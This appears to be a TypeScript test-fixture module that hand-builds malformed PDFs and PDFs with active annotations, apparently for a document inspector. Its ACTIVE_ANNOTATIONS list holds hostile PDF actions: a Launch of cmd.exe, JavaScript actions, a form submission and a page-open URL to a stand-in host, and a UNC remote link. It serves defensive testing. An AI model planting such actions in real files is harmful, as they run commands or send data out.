/**
 * Hand-written PDFs in the shapes the readers disagree on, or that office tools really write.
 * Each is built byte by byte here so no test needs the tool that first wrote it.
 */

/** One object: `text` is what follows `N 0 obj`; `unterminated` leaves out `endobj` and the line break before the next object. */
interface Part {
  num: number;
  text: string;
  unterminated?: boolean;
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';

/** Objects in the order given, a classic xref with their true offsets, a trailer. */
function assemble(parts: Part[], trailer: string, opts: { prefix?: string; header?: string; breakXref?: boolean } = {}): Buffer {
  let body = `${opts.prefix ?? ''}${opts.header ?? '%PDF-1.7'}\n%\xe2\xe3\xcf\xd3\n`;
  const start = (opts.prefix ?? '').length;
  const offsets = new Map<number, number>();
  for (const p of parts) {
    offsets.set(p.num, Buffer.byteLength(body, 'latin1') - start);
    body += p.unterminated ? `${p.num} 0 obj\n${p.text}` : `${p.num} 0 obj\n${p.text}\nendobj\n`;
  }
  const size = Math.max(...parts.map((p) => p.num)) + 1;
  const xrefAt = Buffer.byteLength(body, 'latin1') - start;
  body += `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let n = 1; n < size; n++) body += `${String(offsets.get(n) ?? 0).padStart(10, '0')} ${offsets.has(n) ? '00000 n' : '65535 f'} \n`;
  body += `trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${opts.breakXref ? xrefAt + 7 : xrefAt}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/**
 * Ghostscript 10.0 with -dFastWebView: the Info dictionary's last string is cut off after its
 * first bytes (here a UTF-16 BOM) and the /Pages object follows at once, glued to it. Object 1 is
 * the Info, 2 the /Pages node, 3 the page, 4 the catalog. `breakXref` also points startxref
 * nowhere, so a reader must rebuild, and `lineStart` cuts a plain string before a line break instead.
 */
export function ghostscriptFastWebView(opts: { breakXref?: boolean; lineStart?: boolean } = {}): Buffer {
  const cut = opts.lineStart ? '/Creator(Microsoft\xae Word 2016\n' : '/Title(\xfe\xff';
  return assemble(
    [
      { num: 3, text: PAGE },
      { num: 1, text: `<</Producer(GPL Ghostscript 10.00.0)\n/CreationDate(D:20240105093000Z00'00')\n${cut}`, unterminated: true },
      { num: 2, text: '<< /Type /Pages /Kids [\n3 0 R\n] /Count 1\n>>' },
      { num: 4, text: '<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>' },
      // an XMP stream cut short as well: its /Length runs past the file's end
      { num: 5, text: '<< /Type /Metadata /Subtype /XML /Length 99999 >>\nstream\n<?xpacket begin=' },
    ],
    '/Root 4 0 R /Info 1 0 R',
    { breakXref: opts.breakXref ?? false },
  );
}

/** A one-page PDF whose header is `%PDX-1.7`: no `%PDF` anywhere. */
export function misspelledHeader(): Buffer {
  return onePage({ header: '%PDX-1.7' });
}

/** A one-page PDF after `junk` bytes of printer preamble (xref offsets relative to the header). */
export function headerAfterJunk(junk: number): Buffer {
  const line = '%!PS-Adobe-3.0 print job preamble, not part of the PDF\n';
  return onePage({ prefix: line.repeat(Math.ceil(junk / line.length)).slice(0, junk - 1) + '\n' });
}

/** A one-page PDF whose page object is written as a stream (its dictionary is the page's). */
export function pageAsStream(): Buffer {
  return assemble(
    [
      { num: 1, text: '<< /Type /Catalog /Pages 2 0 R >>' },
      { num: 2, text: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
      { num: 3, text: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Length 0 >>\nstream\n\nendstream' },
    ],
    '/Root 1 0 R',
  );
}

function onePage(opts: { prefix?: string; header?: string }): Buffer {
  return assemble(
    [
      { num: 1, text: '<< /Type /Catalog /Pages 2 0 R >>' },
      { num: 2, text: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
      { num: 3, text: PAGE },
    ],
    '/Root 1 0 R',
    opts,
  );
}

/** Annotations and page actions that run, launch, send, fetch or play, by the kind the inspector names. */
export const ACTIVE_ANNOTATIONS = {
  'link-javascript': ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>', 'javascript'],
  launch: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>', 'launch'],
  'javascript-uri': [
    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI ( javascript:alert\\(1\\)) >> >>',
    'javascript-uri',
  ],
  'submit-form': [
    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/collect) >> >> >>',
    'submit-form',
  ],
  'goto-remote-unc': [
    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >> >>',
    'remote-goto',
  ],
  'import-data': ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>', 'import-data'],
  'file-attachment': [
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >> >>',
    'file-attachment',
  ],
  'widget-keystroke': [
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 10 10] /AA << /K << /S /JavaScript /JS (event.rc=true) >> >> >>',
    'javascript',
  ],
  rendition: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (x) >> >>', 'rendition'],
  'uri-chained-launch': [
    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.gov.cn/) /Next << /S /Launch /F (cmd.exe) >> >> >>',
    'launch',
  ],
} as const;

/** Links a submission keeps: a /Dest, a GoTo, an https URI. */
export const SAFE_LINKS = [
  '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>',
  '<< /Type /Annot /Subtype /Link /Rect [0 10 10 20] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
  '<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (https://www.gov.cn/) >> >>',
];

/**
 * A one-page PDF with `annotations` on its page (objects 6…) and, with `pageScript`, a page-open
 * JavaScript action (/AA /O). Object 5 is a small embedded file (the attachment's .exe).
 */
export function pdfWithAnnotations(annotations: readonly string[], opts: { pageScript?: boolean } = {}): Buffer {
  const refs = annotations.map((_, i) => `${6 + i} 0 R`).join(' ');
  const aa = opts.pageScript ? ' /AA << /O << /S /JavaScript /JS (app.launchURL\\("http://198.51.100.7/"\\)) >> >>' : '';
  return assemble(
    [
      { num: 1, text: '<< /Type /Catalog /Pages 2 0 R >>' },
      { num: 2, text: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
      { num: 3, text: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [${refs}]${aa} >>` },
      { num: 4, text: '<< /Length 0 >>\nstream\n\nendstream' },
      { num: 5, text: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream' },
      ...annotations.map((text, i) => ({ num: 6 + i, text })),
    ],
    '/Root 1 0 R',
  );
}
